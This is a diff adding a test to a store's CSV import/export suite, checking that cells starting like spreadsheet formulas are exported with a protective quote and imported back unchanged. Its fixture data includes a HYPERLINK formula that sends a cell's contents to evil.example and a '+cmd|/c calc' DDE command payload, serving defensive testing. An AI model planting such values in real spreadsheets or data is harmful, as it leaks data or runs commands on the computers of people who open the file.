@@ -192,6 +192,51 @@ describe('CSV import and export', () => {
     expect(taken.body.ignored_columns_count).toBe(197);
   });
 
+  it('exports text that starts like a formula with a quote before it, and imports it back as it was', async () => {
+    const from = await newStore('Formula From');
+    await server.call('PATCH', `/stores/${from.slug}`, {
+      token: owner.token,
+      body: { categories: [{ name: 'Tricky', tags: ['-minus', '@at'] }] },
+    });
+    const made = await server.call('POST', `/stores/${from.slug}/products`, {
+      token: owner.token,
+      body: {
+        name: '=HYPERLINK("https://evil.example/?d="&B3,"Open")',
+        description: '+cmd|/c calc!A0',
+        tags: ['-minus', '@at'],
+        mods: [
+          {
+            key: 'size',
+            type: 'list',
+            prompt: 'Choose a size',
+            required: true,
+            options: ['=1+1', "'=quoted", 'Plain'],
+          },
+        ],
+        variants: [
+          { mods: { size: '=1+1' }, qty: 2, price_kobo: 150_000 },
+          { mods: { size: "'=quoted" }, qty: 0, price_kobo: 90_000 },
+          { mods: { size: 'Plain' }, qty: 1, price_kobo: 100 },
+        ],
+      },
+    });
+    expect(made.status).toBe(201);
+    const exported = await server.call('GET', `/stores/${from.slug}/catalogue/export`, {
+      token: owner.token,
+    });
+    const cells = exported.body.csv.split('\n')[1];
+    // No cell starts with = + - or @ for a spreadsheet to run; numbers are left as they are.
+    expect(cells).toContain(`"'=HYPERLINK(""https://evil.example/?d=""&B3,""Open"")"`);
+    expect(cells).toContain("'-minus, @at");
+    expect(cells).toContain("'=1+1");
+    expect(exported.body.csv).toContain("''=quoted");
+    expect(cells).toContain(',1500.00,');
+    const to = await newStore('Formula To');
+    const report = await importCsv(to.slug, exported.body.csv, true);
+    expect(report.body).toMatchObject({ created: 1, refused: [] });
+    expect(await catalogue(to.slug)).toEqual(await catalogue(from.slug));
+  });
+
   it('export then import into an empty store gives the same catalogue, drafts and categories too', async () => {
     const from = await newStore('Round Trip From');
     await applyTemplate(server.db, from.id, 'fashion');
